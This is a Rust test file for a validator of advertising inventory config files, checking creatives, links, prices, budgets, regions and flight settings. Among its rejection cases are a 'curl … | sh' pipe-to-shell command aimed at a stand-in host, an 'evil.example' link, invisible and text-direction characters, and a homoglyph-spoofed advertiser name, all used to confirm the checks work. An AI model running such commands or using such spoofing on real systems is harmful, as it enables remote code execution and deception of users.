use crate::catalog::files;

/// The problems of the example with one text replaced in one of its files.
fn problems_of(file: &str, from: &str, to: &str) -> Vec<String> {
    let mut changed = false;
    let texts: Vec<(String, String)> = files::EXAMPLE
        .iter()
        .map(|(name, text)| {
            let text =
                if name.ends_with(file) { text.replacen(from, to, 1) } else { (*text).into() };
            changed |= name.ends_with(file) && text != files_text(name);
            ((*name).to_owned(), text)
        })
        .collect();
    assert!(changed, "{file} contains `{from}`");
    match files::parse(&texts) {
        Ok(_) => Vec::new(),
        Err(problems) => problems.iter().map(ToString::to_string).collect(),
    }
}

fn files_text(name: &str) -> &'static str {
    files::EXAMPLE.iter().find(|(one, _)| *one == name).unwrap().1
}

fn assert_rejected(file: &str, cases: &[(&str, &str, &str)]) {
    for (from, to, expected) in cases {
        let problems = problems_of(file, from, to);
        let location = format!("config/inventory/{file}:");
        assert!(
            problems.iter().any(|one| one.starts_with(&location) && one.contains(expected)),
            "{to}: {problems:#?}"
        );
    }
}

#[test]
fn texts_links_and_claims_of_creatives_are_checked() {
    assert_rejected(
        "zahid-host.toml",
        &[
            (
                "\"Run your AI",
                "\"\\u202ERun your AI",
                "creatives[0].headline: contains a character that changes",
            ),
            ("\"Pricing\"", "\"Pri\\u200Bcing\"", "ctas[1].text: contains an invisible character"),
            ("git push zahid main", "curl https://x.example | sh", "command.text: contains `|`"),
            (
                "https://zahid.host/pricing",
                "https://evil.example/",
                "ctas[1].url: host `evil.example`",
            ),
            ("https://zahid.host/pricing", "http://zahid.host/", "ctas[1].url: is not https"),
            ("from={publisher}", "from={reader}", "ctas[0].url: `{reader}` is not a macro"),
            (
                "id = \"pricing\"",
                "id = \"primary\"",
                "ctas[1].id: must be unique (got `primary` twice)",
            ),
            (
                "fallback = \"reading about agents? ship yours in a single git push.\", ",
                "",
                "kicker.fallback: is required",
            ),
            ("echo = [\"ai-agents\"", "echo = [\"ai-agentz\"", "did you mean `ai-agents`?"),
            (
                "fallback = \"Push",
                "fallback = \"Push {topic}",
                "body.fallback: must not contain a slot",
            ),
            (
                "read about {topic}",
                "read about {reader}",
                "body.text: `{reader}` is not a placeholder",
            ),
            (
                "\"ai-agents\", \"ai-infrastructure\", \"cloud-computing\"] }\nkicker",
                "] }\nkicker",
                "body.echo: must list",
            ),
            (
                "\"Run your AI side-project on zahid.host\"",
                "\"Run your {topic} project\"",
                "creatives[0].headline: contains a slot, but no fallback",
            ),
            (
                "\"Run your AI side-project on zahid.host\"",
                "{ text = \"Run your {topic} project\", echo = [\"ai-agents\"] }",
                "creatives[0].headline.fallback: is required",
            ),
            (
                "\"Run your AI side-project on zahid.host\"",
                "{ text = \"Run an {topic} project without any servers of your own, from your first push on to the last\", fallback = \"Run it\", echo = [\"ai-infrastructure\"] }",
                "creatives[0].headline.echo[0]: must keep the filled text within 90 characters (got ",
            ),
            (
                "\"Run your AI side-project on zahid.host\"",
                "{ text = \"Run it\", echos = [] }",
                "unknown field `echos`",
            ),
            ("\"Run your AI side-project on zahid.host\"", "7", "expected a text, or a table"),
            (
                "as_of = \"2026-10-01\"",
                "as_of = \"2037-10-01\"",
                "proofs[0].valid_until: must be after `as_of`, 2037-10-01 (got 2036-12-31)",
            ),
            (
                "source = \"zahid.host, own count of running projects\"\n",
                "",
                "missing field `source`",
            ),
            (
                "valid_until = \"2036-12-31T23:59:59Z\"\nregions",
                "regions",
                "missing field `valid_until`",
            ),
            (
                "[\"eea\", \"CH\"]",
                "[\"eeaa\", \"CH\"]",
                "proofs[0].regions.any[0]: unknown region `eeaa`",
            ),
            (
                "audience = \"business\"",
                "audience = \"consumer\", tax_included = false",
                "duplicate key",
            ),
            (
                "flight = \"zahid-ai-europe\"",
                "flight = \"zahid-ai-europa\"",
                "did you mean `zahid-ai-europe`?",
            ),
            (
                "headline = \"Run",
                "headline = \"Run far far far far far far far far far far far far far far far far far far",
                "headline: length",
            ),
        ],
    );
}

#[test]
fn prices_budgets_and_dates_are_checked() {
    assert_rejected(
        "zahid-host.toml",
        &[
            (
                "price_micros = 8_000_000",
                "price_micros = 8_000_001",
                "price_micros: must be a multiple of 1000 for pricing",
            ),
            ("price_micros = 8_000_000", "price_micros = -1000", "is not an amount"),
            ("price_micros = 8_000_000", "price_micros = 9007199254740992", "is not an amount"),
            (
                "price_micros = 8_000_000",
                "price_micros = 8_000_000.0",
                "expected a whole number, found 8_000_000.0",
            ),
            (
                "price_micros = 8_000_000",
                "price_micros = 8_000_000\nweight = nan",
                "weight: must be a finite number",
            ),
            (
                "price_micros = 8_000_000",
                "price_micros = 8_000_000\nweight = -1.0",
                "weight: lower than",
            ),
            (
                "daily_micros = 200_000_000",
                "daily_micros = 5_000_000_001",
                "must be at most `lifetime_micros`, 5000000000 (got 5000000001)",
            ),
            (
                "daily_micros = 200_000_000",
                "daily_micros = 0",
                "budget.daily_micros: must be greater than 0",
            ),
            ("pacing = \"asap\"", "goal_impressions = 10", "goal_impressions: requires `ends`"),
            (
                "pacing = \"asap\"",
                "starts = \"2026-01-02T00:00:00\"\nends = \"2026-01-02T00:00:00\"",
                "ends: must be after `starts`",
            ),
            ("currency = \"EUR\"", "currency = \"EURO\"", "is not a currency"),
        ],
    );
}

#[test]
fn a_campaign_must_not_be_political_and_must_declare_a_category() {
    assert_rejected(
        "zahid-host.toml",
        &[
            ("political = false", "political = true", "campaigns[0].political: must be false"),
            ("political = false\n", "", "missing field `political`"),
            (
                "categories = [\"software\"]",
                "categories = [\"sofware\"]",
                "did you mean `software`?",
            ),
            ("categories = [\"software\"]", "categories = []", "categories: length"),
            ("utm_source", "source", "utm: must have keys of the form utm_[a-z_]+ (got `source`)"),
            ("paid_by = \"Zahid Hosting GmbH\"", "paid_by = \" \"", "paid_by: must not be empty"),
        ],
    );
}

#[test]
fn regions_exist_and_ids_are_unique() {
    assert_rejected(
        "zahid-host.toml",
        &[
            ("any = [\"eu\", \"CH\"]", "any = [\"eu\", \"C1\"]", "is not a region"),
            ("any = [\"eu\", \"CH\"]", "any = [\"eau\", \"CH\"]", "did you mean"),
            (
                "any = [\"eu\", \"CH\"]",
                "any = [\"CH\"], none = [\"europe\"]",
                "targeting.regions: must include at least one country",
            ),
            (
                "\n[[flights]]",
                "\n[[advertisers]]\nid = \"zahid-host\"\nname = \"Other\"\ndomains = [\"o.example\"]\ncurrency = \"EUR\"\n\n[[flights]]",
                "advertisers[1].id: must be unique (got `zahid-host` twice)",
            ),
            (
                "\n[[flights]]",
                "\n[[advertisers]]\nid = \"other\"\nname = \"zаhid.host\"\ndomains = [\"o.example\"]\ncurrency = \"EUR\"\n\n[[flights]]",
                "must not look like the name of",
            ),
            (
                "any = [\"eu\", \"CH\"] }",
                "any = [\"eu\", \"CH\"] }, sentiment = { any = [\"neutral\"], none = [\"neutral\"] }",
                "targeting.sentiment: must accept at least one value",
            ),
            ("id = \"zahid-launch\"", "id = \"Zahid Launch\"", "is not an id"),
        ],
    );
    assert_rejected(
        "publishers.toml",
        &[
            ("id = \"dach\"", "id = \"eu\"", "is a built-in group"),
            ("id = \"dach\"", "id = \"de\"", "must be a valid group id (got `de`)"),
            ("members = [\"DE\", \"AT\", \"CH\"]", "members = []", "members: must not be empty"),
            ("regions = [\"MT\"]", "regions = [\"malta\"]", "unknown region `malta`"),
            (
                "page_urls = \"path\"",
                "page_urls = \"path\"\npaused_paths = [\"politics\"]",
                "paused_paths[0]: must be a URL prefix",
            ),
            (
                "page_urls = \"path\"",
                "page_urls = \"path\"\norigins = [\"https://news.example/\"]",
                "origins[0]",
            ),
            (
                "page_urls = \"path\"",
                "page_urls = \"path\"\ndecide = \"origin\"",
                "decide: `origin` needs at least one origin",
            ),
            ("default_country = \"BE\"", "default_country = \"XX\"", "is not a region"),
        ],
    );
}

#[test]
fn checking_references_takes_linear_time_and_bounded_suggestions() {
    // A hundred times the flights may take a hundred times as long, not ten thousand times.
    let mut inventory = crate::catalog::synth::inventory(2_000, 1);
    inventory.creatives.iter_mut().for_each(|one| one.flight = "flight-1x".parse().unwrap());
    let findings = super::inventory(&inventory);
    assert_eq!(findings.len(), inventory.creatives.len());
    let suggestions = findings.iter().filter(|finding| finding.help.is_some()).count();
    assert_eq!(suggestions, super::SUGGESTIONS);
}

/// The reference flight with these settings.
fn flight_problems(settings: &str) -> Vec<String> {
    problems_of("zahid-host.toml", "pacing = \"asap\"", settings)
}

#[test]
fn shares_of_voice_soft_ends_and_hours_are_checked() {
    let dates = "starts = \"2026-12-05T00:00:00\"\nends = \"2026-12-06T00:00:00\"";
    for (settings, expected) in [
        ("share_percent = 40", "share_percent: requires tier \"sponsorship\" (got \"standard\")"),
        ("share_percent = 0", "share_percent: "),
        ("share_percent = 100.5", "share_percent: "),
        ("share_percent = nan", "share_percent: "),
        (
            "share_percent = 40\ngoal_clicks = 5\nends = \"2027-01-01\"",
            "must be left out with a goal",
        ),
        ("end = \"soft\"", "end: requires a goal"),
        ("end = \"never\"", "unknown value `never`, expected `hard` or `soft`"),
        ("hours = [\"mon 8-18\"]", "`hours` must be days and a time such as `mon-fri 08:00-18:00`"),
        ("hours = [\"montag 08:00-18:00\"]", "(got `montag 08:00-18:00`)"),
        ("hours = \"mon 08:00-18:00\"", "expected a list such as"),
        (
            &format!("{dates}\nhours = [\"mon-fri 08:00-18:00\"]"),
            "hours: must include a time between `starts` and `ends` (Europe/Berlin)",
        ),
    ] {
        let problems = flight_problems(settings);
        assert!(problems.iter().any(|one| one.contains(expected)), "{settings}: {problems:#?}");
    }
    for settings in [
        "end = \"soft\"\ngoal_clicks = 5\nends = \"2027-01-01\"",
        "hours = [\"mon-fri 08:00-18:00\", \"sat,sun 20:00-02:00\"]",
        &format!("{dates}\nhours = [\"fri 22:00-02:00\"]"),
    ] {
        assert_eq!(flight_problems(settings), [""; 0], "{settings}");
    }
}

#[test]
fn more_than_all_of_the_same_slots_is_allowed_with_a_warning_that_names_the_flights() {
    let flight = |id: &str, share: f64, topic: &str, rest: &str| {
        format!(
            "[[flights]]\nid = \"{id}\"\ncampaign = \"zahid-launch\"\ntier = \"sponsorship\"\npricing = \"flat\"\n\
             share_percent = {share}\n{rest}\ntargeting = {{ topics = {{ any = [\"{topic}\"] }} }}\n"
        )
    };
    let warnings = |flights: &[String]| {
        let mut texts =
            files::EXAMPLE.map(|(name, text)| (name.to_owned(), text.to_owned())).to_vec();
        texts.push(("sold.toml".to_owned(), flights.concat()));
        let inventory = files::parse(&texts).unwrap();
        let found = crate::catalog::check::warnings(&inventory, 0);
        let found = found.iter().filter(|one| one.field == "share_percent");
        found.map(ToString::to_string).collect::<Vec<_>>()
    };
    let broad = flight("broad", 60.0, "technology", "");
    // A topic includes those below it.
    let oversold = warnings(&[broad.clone(), flight("narrow", 50.0, "ai-agents", "")]);
    assert_eq!(oversold.len(), 2, "{oversold:?}");
    assert!(
        oversold[0].contains("`broad`") && oversold[0].contains("`narrow` (50 %)"),
        "{oversold:?}"
    );
    assert!(oversold[0].contains("110 % of the slots"), "{oversold:?}");
    for fits in [
        flight("narrow", 40.0, "ai-agents", ""),
        flight("elsewhere", 90.0, "cooking", ""),
        flight("other", 90.0, "ai-agents", "status = \"paused\""),
    ] {
        assert_eq!(warnings(&[broad.clone(), fits]), [""; 0]);
    }
    let dated = |id: &str, dates: &str| flight(id, 90.0, "technology", dates);
    let apart = [
        dated("june", "starts = \"2026-06-01\"\nends = \"2026-06-30\""),
        dated("july", "starts = \"2026-07-01\"\nends = \"2026-07-31\""),
    ];
    assert_eq!(warnings(&apart), [""; 0], "one ends before the other starts");
}
